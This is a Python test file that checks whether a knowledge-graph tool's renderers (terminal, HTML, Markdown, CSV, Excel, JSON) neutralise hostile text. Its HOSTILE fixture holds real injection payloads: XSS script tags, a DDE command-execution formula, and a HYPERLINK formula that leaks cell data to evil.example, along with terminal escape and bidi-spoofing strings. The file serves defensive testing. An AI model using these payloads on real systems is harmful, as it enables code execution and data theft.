"""Whatever stands in a document is shown and never obeyed: by a terminal, a browser, a spreadsheet, or Markdown."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from html.parser import HTMLParser

import pytest
from analysis.small import Paper, graph_of
from openpyxl import load_workbook
from rich.cells import cell_len

from biokg.graph import KnowledgeGraph
from biokg.views.document.formats import rendered
from biokg.views.document.markdown import escaped
from biokg.views.document.model import Cell, Column, Document, Prose, Row, Rows, Table, line

HOSTILE = {
    "script": "</title></style><script>alert(1)</script><img src=x onerror=alert(2)>",
    "attribute": "\" onmouseover='alert(3)' x=\"{{7*7}} {% raw %}",
    "formula": '=HYPERLINK("http://evil.example/"&A1,"click")',
    "command": "+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd",
    "minus": "-2+3+cmd",
    "full width": "＝1+1",
    "tab": "\t=1+1",
    "controls": "a\x00b\x07\x1b[31mred\x9b2J\r\nnext\x7f",
    "direction": "abc\u202egnp.exe\u2066\u200f",
    "hebrew": "שלום עולם",
    "long": "长" * 10_000,
    "word": "w" * 10_000,
    "emoji": "👩🏽‍🔬🇨🇳 ok",
    "markdown": "**b** [x](javascript:alert(4)) `c` | ~~d~~ <b> # &lt; $x$",
    "rule": "---",
    "list": "1. first",
    "escape": "_x003D_1+1",
}
ORDERS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]")


@pytest.fixture(scope="module")
def kg() -> KnowledgeGraph:
    """A graph with a source that has a hostile title."""
    return graph_of({"acme": "Company"}, Paper("a", ["acme edtf 2024"], title=HOSTILE["script"] + HOSTILE["direction"]))


@pytest.fixture(scope="module")
def document(kg: KnowledgeGraph) -> Document:
    """A document with hostile text in every place."""
    told = tuple(kg.ledger.statements.values())
    texts = list(HOSTILE.values())
    table = Table(
        "".join(texts[:3]),
        "all",
        [Column(texts[0], "name"), Column(texts[2], "text"), Column(texts[1], "more")],
        [[Cell(name), Cell(text, None, "planned", told, text), Cell(text, text)] for name, text in HOSTILE.items()],
        texts[0],
        total=line(texts[2], "", ""),
    )
    rows = Rows("'History:*?/\\[]", "rows", [Row(text, Cell(text), end=text) for text in texts], texts[8])
    strong = Rows("history", "strong", [Row("", Cell(text), strong=True) for text in texts])
    prose = Prose(texts[9], [Cell(text, remark=text) for text in texts])
    answers = [(text, Cell(text, None, "denied", told)) for text in texts]
    return Document(texts[0], texts[8], answers, [table, rows, strong, prose], "en", texts)


@pytest.mark.parametrize("width", [40, 80, 120])
def test_a_terminal_obeys_nothing(kg: KnowledgeGraph, document: Document, width: int) -> None:
    text = rendered(None, document, kg.label, "table", width=width)
    assert isinstance(text, str)
    assert not ORDERS.search(text)
    assert max(map(cell_len, text.splitlines())) <= width
    assert text.count("长") < 20_000, "twelve times 10,000 are cut, since nobody reads them"


class _Page(HTMLParser):
    """The tags, attributes and texts of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []
        self.texts: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]

    def handle_data(self, data: str) -> None:
        self.texts.append(data)


def test_a_page_holds_text_alone(kg: KnowledgeGraph, document: Document) -> None:
    text = rendered(None, document, kg.label, "html")
    assert isinstance(text, str)
    page = _Page()
    page.feed(text)
    assert not {"script", "img", "iframe", "object", "link", "base", "form", "b"} & set(page.tags)
    assert not [name for name, _ in page.attributes if name.startswith("on") or name in {"src", "style", "srcdoc"}]
    assert {value[0] for name, value in page.attributes if name == "href"} == {"#"}
    assert not ORDERS.search(text)
    for name in ("formula", "hebrew", "emoji", "markdown", "long"):
        assert HOSTILE[name] in page.texts


def test_only_pages_of_the_web_are_linked() -> None:
    from dataclasses import replace

    from pyoxigraph import NamedNode

    from biokg.views.document.sources import CitedSource

    source = graph_of({"acme": "Company"}, Paper("a", ["acme edtf 2024"])).sources()[0]
    pages = [
        "https://example.org/a?b=<c>",
        "http://example.org",
        "javascript:alert(1)",
        "data:text/html,x",
        "file:///x",
    ]
    shown = [CitedSource(replace(source, page=NamedNode(page)), "", "", ()).page for page in pages if "<" not in page]
    assert shown == ["http://example.org", None, None, None]


def test_markdown_shows_signs_as_they_are() -> None:
    assert escaped(HOSTILE["markdown"]) == (
        r"\*\*b\*\* \[x\](javascript:alert(4)) \`c\` \| \~\~d\~\~ \<b\> \# \&lt; \$x\$"
    )
    assert [escaped(HOSTILE[name]) for name in ("rule", "list", "formula")] == [
        r"\---", r"1\. first", r'\=HYPERLINK("http://evil.example/"\&A1,"click")',
    ]  # fmt: skip


def test_markdown_keeps_its_tables_whole(kg: KnowledgeGraph, document: Document) -> None:
    text = rendered(None, document, kg.label, "md")
    assert isinstance(text, str)
    assert not ORDERS.search(text)
    lines = [line for line in text.splitlines() if line.startswith("|")]
    assert len(lines) == len(HOSTILE) + 3
    assert {len(re.findall(r"(?<!\\)\|", line)) for line in lines} == {4}
    assert not re.search(r"(?<!\\)<(?!https?://)", text)


def test_csv_is_read_back_and_runs_nothing(kg: KnowledgeGraph, document: Document) -> None:
    text = rendered(None, document, kg.label, "csv", table="all")
    assert isinstance(text, str)
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [row["name"] for row in rows] == list(HOSTILE)
    assert not [cell for row in rows for cell in row.values() if cell.startswith(("=", "+", "-", "@", "＝", "\t"))]
    found = {row["name"]: row["text"] for row in rows}
    for name in ("script", "hebrew", "long", "word", "emoji", "markdown"):
        assert found[name] == HOSTILE[name]
    assert found["formula"] == "'" + HOSTILE["formula"]
    assert found["controls"] == "a�b��[31mred�2J  next�"


def test_a_workbook_is_read_back_and_runs_nothing(kg: KnowledgeGraph, document: Document) -> None:
    data = rendered(None, document, kg.label, "xlsx")
    assert isinstance(data, bytes)
    book = load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells} <= {"s", "n", "d"}
    texts = {cell.value for cell in cells}
    for name in ("script", "attribute", "formula", "command", "at", "minus", "full width", "hebrew", "emoji", "long"):
        assert HOSTILE[name] in texts
    assert [cell.value for cell in cells if cell.value == HOSTILE["formula"] and not cell.quotePrefix] == []
    xml = b"".join(zipfile.ZipFile(io.BytesIO(data)).read(name) for name in book_files(data))
    assert b"<f>" not in xml
    assert b"<f " not in xml


def book_files(data: bytes) -> list[str]:
    """Return the sheets within a workbook."""
    return [name for name in zipfile.ZipFile(io.BytesIO(data)).namelist() if name.startswith("xl/worksheets/")]


def test_the_names_of_sheets_are_valid_and_unique(kg: KnowledgeGraph) -> None:
    column = [Column("x", "x")]
    headings = ["", "''", "a/b[c]:*?", "A b c", "history", "长" * 40, "长" * 41, "Summary", "\x1b", "Sources"]
    tables = [Table(heading, str(number), column, [line("1")]) for number, heading in enumerate(headings)]
    data = rendered(None, Document("T", blocks=tables), kg.label, "xlsx")
    assert isinstance(data, bytes)
    names = load_workbook(io.BytesIO(data)).sheetnames
    assert len({name.casefold() for name in names}) == len(headings) + 1
    assert all(0 < len(name) <= 31 and not re.search(r"[\[\]:*?/\\\x00-\x1f]|^'|'$", name) for name in names)
    assert not {"history"} & {name.casefold() for name in names}


def test_json_holds_everything_escaped(kg: KnowledgeGraph) -> None:
    text = rendered({"texts": HOSTILE}, Document("T"), kg.label, "json")
    assert isinstance(text, str)
    assert not ORDERS.search(text)
    assert json.loads(text) == {"texts": HOSTILE}
